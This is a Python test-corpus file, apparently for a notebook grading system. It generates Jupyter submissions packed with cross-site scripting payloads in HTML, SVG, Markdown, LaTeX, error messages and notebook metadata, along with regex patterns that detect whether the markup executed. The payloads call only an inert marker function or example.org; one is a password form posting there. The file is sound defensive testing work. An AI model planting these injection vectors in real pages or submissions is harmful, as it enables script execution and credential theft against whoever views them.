"""Submissions that try to run scripts in the browser of whoever opens their feedback."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from corpus.expected import GRADED_OR_FLAGGED, RAN_OR_TAMPERED, Submission
from corpus.submission_builder import SubmissionBuilder, dedent, description

# These patterns match markup that would run. The page's own markup never contains corpus_ran.
LIVE_MARKUP = (
    r"(?is)<script[^>]*>[^<]*corpus_ran",
    r"(?i)<script[^>]*src\s*=\s*[\"']?[^\"'>]*corpus_ran",
    r"(?i)<[a-z][^<>]*\son[a-z]+\s*=[^<>]*corpus_ran",
    r"(?i)<[a-z][^<>]*\s(href|src|action|data|formaction)\s*=\s*[\"']?\s*(javascript|data:text/html)[^>]*corpus_ran",
    r"(?i)<(iframe|object|embed|base|meta|form)\b[^>]*corpus_ran",
    r"(?is)<style[^>]*>[^<]*corpus_ran",
)
MARKUP = """
<script>corpus_ran()</script>
<script src="https://example.org/corpus_ran.js"></script>
<img src=x onerror="corpus_ran()">
<svg onload="corpus_ran()"><a xlink:href="javascript:corpus_ran()"><text y="9">x</text></a></svg>
<a href="javascript:corpus_ran()">a link</a> <a href=" jAvAscript:corpus_ran()">another</a>
<iframe srcdoc="<script>corpus_ran()</script>"></iframe>
<object data="data:text/html,corpus_ran"></object>
<embed src="javascript:corpus_ran()">
<meta http-equiv="refresh" content="0;url=https://example.org/corpus_ran">
<base href="https://example.org/corpus_ran/">
<form action="https://example.org/corpus_ran"><input name="password"></form>
<style>body { display: none; background: url(https://example.org/corpus_ran) }</style>
<details open ontoggle=corpus_ran()>x</details>
</div></body></html><script>corpus_ran()</script>
""".strip()
MARKDOWN = """
[a link](javascript:corpus_ran()) ![x](x" onerror="corpus_ran())

$$\\href{javascript:corpus_ran()}{x} \\unicode{<img src=x onerror=corpus_ran()>}$$

`</code><script>corpus_ran()</script>`

{% raw %}<script>corpus_ran()</script>{% endraw %} {{ "<script>corpus_ran()</script>" }}
"""
DISPLAYS = {
    "shows-html": "# Shows HTML.\nfrom IPython.display import HTML\nHTML(MARKUP)",
    "shows-markdown": "# Shows Markdown.\nfrom IPython.display import Markdown\nMarkdown(MARKUP)",
    "shows-svg": """
        # Shows LaTeX and an SVG.
        from IPython.display import SVG, Latex, display
        display(Latex("$$" + MARKUP + "$$"))
        display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>corpus_ran()</script></svg>'))
    """,
    "shows-javascript": """
        # Shows JavaScript and a widget.
        from IPython.display import Javascript, display
        display(Javascript("corpus_ran()"))
        widget = "application/vnd.jupyter.widget-view+json"
        display({widget: {"model_id": "corpus_ran"}, "text/html": MARKUP}, raw=True)
        display({"application/vnd.corpus+json": MARKUP, "text/x-odd": MARKUP}, raw=True)
    """,
    "prints-markup": """
        # Prints colored markup, and raises it as an error.
        import sys
        print("\\x1b[31m" + MARKUP)
        print(MARKUP, file=sys.stderr)
        raise type("<script>corpus_ran()</script>", (Exception,), {})(MARKUP)
    """,
    "shows-odd-images": """
        # Shows invalid images.
        from IPython.display import display
        display({"image/png": '"><script>corpus_ran()</script>'}, raw=True)
        display({"image/jpeg": ['"', 'onerror="corpus_ran()'], "text/plain": "x"}, raw=True,
                metadata={"image/jpeg": {"width": '1" onerror="corpus_ran()'}})
    """,
}


def submissions(builder: SubmissionBuilder) -> Iterator[Submission]:
    """Yield the submissions of this kind."""
    for name, text in DISPLAYS.items():
        code = dedent(text)
        notebook = builder.insert(builder.right(), f"{code.splitlines()[0]}\nMARKUP = {MARKUP!r}")
        builder.insert(notebook, code)
        core = name in ("shows-html", "prints-markup")
        yield Submission(
            name,
            "web",
            description(code),
            notebook,
            RAN_OR_TAMPERED,
            builder.full_score,
            live=LIVE_MARKUP,
            core=core,
        )
    notebook = builder.right()
    for number in range(2, 6):
        text = (MARKUP + MARKDOWN) if number % 2 else MARKDOWN
        builder.insert(notebook, text, kind="markdown" if number < 4 else "raw")
    for cell in notebook.cells[-2:]:
        cell.metadata.update(format="text/html", raw_mimetype="text/html")
    summary = "Has scripts in text cells and in raw HTML cells."
    yield Submission(
        "writes-markup",
        "web",
        summary,
        notebook,
        GRADED_OR_FLAGGED,
        builder.full_score,
        live=LIVE_MARKUP,
        core=True,
    )

    data: Any = json.loads(json.dumps(builder.right()))
    bad = '"><script>corpus_ran()</script>'
    data["metadata"].update(
        title=bad,
        authors=[{"name": bad}],
        language_info={"name": bad, "pygments_lexer": bad},
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"x": MARKUP}}},
        jupytext={"formats": "ipynb,py:percent"},
    )
    for number, cell in enumerate(data["cells"]):
        cell["metadata"].update(tags=[bad, "hide_input"], name=bad, slideshow={"slide_type": bad})
        cell["id"] = cell["id"] if number else bad
    summary = "Has scripts in names, tags, and other metadata."
    yield Submission(
        "hides-markup",
        "web",
        summary,
        data_bytes(data),
        GRADED_OR_FLAGGED,
        builder.full_score,
        live=LIVE_MARKUP,
    )


def data_bytes(data: Any) -> bytes:
    """Return a notebook's JSON, encoded as bytes."""
    return json.dumps(data).encode()
